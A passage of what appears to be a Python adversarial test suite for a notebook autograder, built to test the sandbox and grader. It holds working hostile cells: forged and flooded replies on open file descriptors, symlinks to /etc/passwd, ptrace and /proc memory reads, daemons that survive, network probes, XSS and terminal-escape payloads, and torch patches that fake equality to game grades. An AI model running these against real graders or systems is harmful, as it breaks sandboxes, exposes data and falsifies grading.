    except OSError:
        pass
"""


@shaken
def replies_forged_before(host: Host) -> bytes:
    """A cell writes twenty right replies to every open file, for the calls to come."""
    return small(REPLIES, *all_in("return 1").values(), FORGE)


@shaken
def replies_forged_during(host: Host) -> bytes:
    """Each call writes replies of its own, as many as it likes, before the true one."""
    return small(REPLIES, *all_in(FORGE + "\nreturn 1").values())


@shaken
def replies_forged_after(host: Host) -> bytes:
    """A thread, a finaliser and an exit handler go on writing replies when the call is over."""
    later = """
    import atexit, threading, time, weakref

    def forge():
        for fd in range(3, 64):
            try:
                os.write(fd, FRAME)
            except OSError:
                pass

    def forever():
        while True:
            forge()
            time.sleep(0.001)

    class Last:
        def __del__(self):
            forge()

    atexit.register(forge)
    threading.Thread(target=forever, daemon=True).start()
    last = [Last() for _ in range(100)]
    """
    return small(REPLIES, *all_in("last.pop()\nreturn 1").values(), later)


@shaken
def replies_flooded(host: Host) -> bytes:
    """A gigabyte of zeros, ones and brackets goes to every open file."""
    flood = """
    import os, threading
    def flood(fd):
        try:
            for n in range(1000):
                os.write(fd, (b"\\0", b"\\xff", b"[")[n % 3] * (1 << 20))
        except OSError:
            pass
    for fd in range(3, 64):
        threading.Thread(target=flood, args=(fd,), daemon=True).start()
    """
    return small(*all_in("return 1").values(), flood)


@shaken
def replies_of_giant_length(host: Host) -> bytes:
    """The header promises 2**63 bytes; then a reply whose array is said to have 10**12 numbers."""
    lie = """
    RIGHT["shape"] = [10**6, 10**6]
    for head in (b"\\x7f" + b"\\xff" * 7, b"\\xff" * 8, struct.pack(">Q", len(json.dumps(RIGHT)) + 1)):
        for fd in range(3, 64):
            try:
                os.write(fd, head + json.dumps(RIGHT).encode() + b"\\n")
            except OSError:
                pass
    """
    return small(REPLIES, *all_in(dedent(lie) + "\nreturn 1").values())


@shaken
def files_closed(host: Host) -> bytes:
    """All open files are closed, or made to point to others."""
    close = """
    import os
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(0, 64):
        try:
            os.dup2(null, fd) if fd % 2 else os.close(fd)
        except OSError:
            pass
    """
    return small(*all_in("return 1").values(), close)


@KINDS(12, "graded", "needs review")
def strange_files(host: Host) -> bytes:
    """FIFOs, links, devices, sparse files of a terabyte, in every folder, under every name that a grader may use."""
    write = """
    import os, socket, stat
    names = ["result.json", "results.npz", "status", "answer.npy", "output", "reply", "request", "grades.csv", "gradebook.db", "MARK"]
    for folder in (".", "/tmp", "/dev/shm", "/out", "/work", "/course", os.path.expanduser("~")):
        for n, name in enumerate(names):
            path = os.path.join(folder, name)
            try:
                (lambda: os.mkfifo(path), lambda: os.symlink("/etc/passwd", path), lambda: os.truncate(os.open(path, os.O_CREAT | os.O_RDWR), 1 << 40),
                 lambda: os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5)), lambda: os.symlink("/dev/zero", path),
                 lambda: os.mkdir(path), lambda: os.link("/etc/passwd", path))[n % 7]()
            except OSError as error:
                print(path, error)
    """
    return packed(filled(last=[write.replace("MARK", host.mark)]))


# ---------------------------------------------------------------------------------------------- out of the sandbox

REACHES_OUT = """
import socket, urllib.request
HEARD = []

def reach(kind, family, address, data=b"@MARK@"):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(0.3)
            s.connect(address)
            s.send(data)
            HEARD.append(address)
    except OSError as error:
        print(address, error)

for host in @ADDRESSES@:
    reach(socket.SOCK_STREAM, socket.AF_INET, (host, @TCP@))
    reach(socket.SOCK_DGRAM, socket.AF_INET, (host, @UDP@))
reach(socket.SOCK_STREAM, socket.AF_UNIX, "@UNIX@")
reach(socket.SOCK_STREAM, socket.AF_UNIX, "\\0@ABSTRACT@")
for name in ("example.org", "pypi.org"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError as error:
        print(error)
"""


def reaching_out(host: Host) -> str:
    text = REACHES_OUT
    for name, value in {**vars(host), "addresses": repr(host.addresses)}.items():
        text = text.replace(f"@{name.upper()}@", str(value))
    return text


@KINDS(12, "graded", "needs review")
def sends_packets(host: Host) -> bytes:
    """Connections to the machine's own addresses by TCP, UDP, and sockets with and without a file; questions to name servers."""
    return packed(filled(last=[reaching_out(host)]))


@unearned
def answers_by_telephone(host: Host) -> bytes:
    """The functions ask somebody outside for the answer."""
    return small(*all_in(dedent(reaching_out(host)) + "\nreturn len(HEARD)").values())


@KINDS(12, "graded", "needs review")
def writes_everywhere(host: Host) -> bytes:
    """A file in every folder there is."""
    write = """
    import os
    for folder, folders, files in os.walk("/"):
        folders[:] = [] if folder.count("/") > 3 or folder.startswith(("/proc", "/sys")) else folders
        try:
            with open(os.path.join(folder, "MARK"), "w") as file:
                file.write("I was here")
        except OSError:
            pass
    """
    return packed(filled(last=[write.replace("MARK", host.mark)]))


@KINDS(12, "graded", "needs review")
def daemons(host: Host) -> bytes:
    """Processes that cut all ties and mean to live on: with a session of their own, forked twice, by a shell."""
    start = """
    import os, subprocess, sys, time
    subprocess.Popen(["sleep", "1000"], start_new_session=True)
    subprocess.Popen([sys.executable, "-c", "import time, signal\\nfor n in range(1, 30):\\n    n in (9, 19) or signal.signal(n, signal.SIG_IGN)\\ntime.sleep(1000)", "MARK"], start_new_session=True)
    os.system("(setsid nohup sleep 1001 MARK >/dev/null 2>&1 &) ; (nohup sleep 1002 &)")
    if not os.fork():
        os.setsid()
        if not os.fork():
            time.sleep(1000)
        os._exit(0)
    """
    return packed(filled(last=[start.replace("MARK", host.mark)]))


@KINDS(12, "graded", "needs review")
def looks_around(host: Host) -> bytes:
    """/proc, ptrace, other processes' memory, files and environment: read and written."""
    pry = """
    import ctypes, glob, os, signal
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in [os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
        if pid == os.getpid():
            continue
        print(pid, libc.ptrace(16, pid, 0, 0), libc.process_vm_writev(pid, None, 0, None, 0, 0))
        for path in (f"/proc/{pid}/mem", f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", *glob.glob(f"/proc/{pid}/fd/*")):
            try:
                with open(path, "r+b") as file:
                    print(path, len(file.read(1000)))
            except (OSError, ValueError) as error:
                pass
    libc.unshare(0x10000000); libc.unshare(0x00020000); libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    libc.prctl(1, 0)
    print(libc.shmget(0, 1 << 20, 0o1666), libc.memfd_create(b"x", 0), os.getuid())
    """
    return packed(filled(last=[pry]))


SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"


@KINDS(9, "graded", verdicts={"conv2d_naive": "wrong"})
def html_and_escapes(host: Host) -> bytes:
    """Scripts and terminal commands in what is raised, printed and displayed, in names and in comments."""
    function = f"""
    def conv2d_naive(x, k):  # </pre></code>{SCRIPT} \x1b[31m
        "{SCRIPT}"
        print("\\x1b]0;owned\\x07\\x1b[2J{SCRIPT}")
        raise ValueError("{SCRIPT} \\x1b[2J\\x1b]52;c;ZWNobw==\\x07 \\u202e\\u2066 {{0.__class__}} %s %n =HYPERLINK(1)")
    """
    show = f"""
    from IPython.display import HTML, Javascript, display
    display(HTML("{SCRIPT}"), Javascript("alert(3)"))
    print("\\x1b[31m{SCRIPT}")
    raise type("{SCRIPT}", (Exception,), {{}})("{SCRIPT}")
    """
    notebook = filled(conv2d_naive=function, first=[show], last=[show])
    notebook["metadata"]["title"] = SCRIPT
    return packed(notebook)


HARD_TO_READ = {
    "places": "x = a" + "[0]" * 4000,
    "attributes": "x = a" + ".b" * 20_000,
    "calls": "x = a" + "()" * 4000,
    "sums": "x = 1" + " + 1" * 20_000,
    "signs": "x = " + "-" * 20_000 + "1",
    "negations": "x = " + "not " * 5000 + "1",
    "brackets": "x = " + "(" * 20_000 + "1" + ")" * 20_000,
    "functions": "x = " + "lambda: " * 3000 + "1",
    "blocks": "\n".join(" " * n + "if 1:" for n in range(90)) + "\n" + " " * 90 + "pass",
    "definitions": "\n".join(" " * n + f"def f{n}():" for n in range(90)) + "\n" + " " * 90 + "pass",
    "blank_lines": "x = = 1\n" + "\n" * 99_000 + "y",
    "blanks": "x = = 1\n" + " " * 99_000 + "y ! 1",
    "letters": "x = = 1\n" + "a" * 99_000 + " !",
    "points": "x = = 1\n" + "." * 99_000 + " ! ?",
    "commas": "x = = 1\n" + "a, " * 30_000 + "= ! 1",
    "magics": "%%" + "a" * 90_000 + "\n%" + " %" * 40_000,
    "strings": "x = (" + "'a' " * 20_000 + ")",
    "aliases": "\n".join(["a0 = conv2d_naive", *(f"a{n} = a{n - 1}" for n in range(1, 3000))]),
    "aliases_in_a_ring": "\n".join(f"b{n} = b{(n + 1) % 2000}" for n in range(2000))
    + "\ndef out_size_(*a): return b0(*a)",
    "many_definitions": "\n".join(
        f"def conv2d_naive_{n}(x, k): return conv2d_naive_{n - 1}(x, k)" for n in range(3000)
    ),
}


MOST_SIGNS = 180_000  # in one notebook that is read: no more signs than this that are neither letters nor digits


def _some(texts: dict[str, str]) -> Iterator[list[str]]:
    """The names in groups, so that no notebook is too large to be read."""
    names, signs = list[str](), 0
    for name, text in texts.items():
        more = sum(not letter.isalnum() for letter in text)
        if signs + more > MOST_SIGNS:
            yield names
            names, signs = [], 0
        names.append(name)
        signs += more
    yield names


for _number, _names in enumerate(_some(HARD_TO_READ), 1):
    KINDS.add(
        f"hard_to_read_{_number}",
        lambda host, names=_names: packed(filled(last=[HARD_TO_READ[name] for name in names])),
        "Programs that read programs stumble on such cells: nested too deeply, or of lines on which a careless pattern takes minutes.",
        mark=12,
        statuses={"graded", "needs review"},
    )


@KINDS(12, "graded", "needs review")
def hard_to_read_in_a_function(host: Host) -> bytes:
    """The same in the cells of the functions, above them."""
    above = dict(zip(POINTS, ("strings", "aliases", "blocks", "definitions"), strict=False))
    return packed(filled(**{name: f"{HARD_TO_READ[what]}\n\n{GOOD[name]}" for name, what in above.items()}))


# ------------------------------------------------------------------------------------------------ networks that lie

LESSON_06 = {"topic": "06_unet", "never": ("double_conv", "unet", "repair_unet")}


@KINDS(0, "graded", "needs review", **LESSON_06)
def lying_networks(host: Host) -> bytes:
    """Networks whose answers, parameters and shapes say that they are equal to anything."""
    lies = """
    import torch
    from torch import nn

    class Equal(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func.__name__ in ("equal", "allclose", "__eq__", "eq", "all"):
                return True
            return super().__torch_function__(func, types, args, kwargs or {})

    class Liar(nn.Module):
        def forward(self, x):
            return x.as_subclass(Equal)
        def parameters(self, recurse=True):
            return iter([])

    def double_conv(*args): return Liar()
    def unet(*args, **kwargs): return Liar()
    def repair_unet(*args, **kwargs): return Liar()
    """
    return small(lies)


@KINDS(0, "graded", "needs review", "crashed", "partial", "timed out", **LESSON_06)
def patched_networks(host: Host) -> bytes:
    """PyTorch's convolutions, its random numbers and the weights' maker are patched, so that every network gives zeros."""
    lies = """
    import torch, sys
    from torch import nn
    zeros = lambda *args, **kwargs: torch.zeros(())
    torch.conv2d = torch.nn.functional.conv2d = torch.conv_transpose2d = torch.manual_seed = zeros
    nn.Module.__call__ = lambda self, x: x * 0
    for module in list(sys.modules.values()):
        if hasattr(module, "FreshWeights"):
            module.FreshWeights.__torch_function__ = zeros
    def double_conv(*args): return nn.Identity()
    def unet(*args, **kwargs): return nn.Identity()
    def repair_unet(*args, **kwargs): return nn.Identity()
    """
    return small(lies)
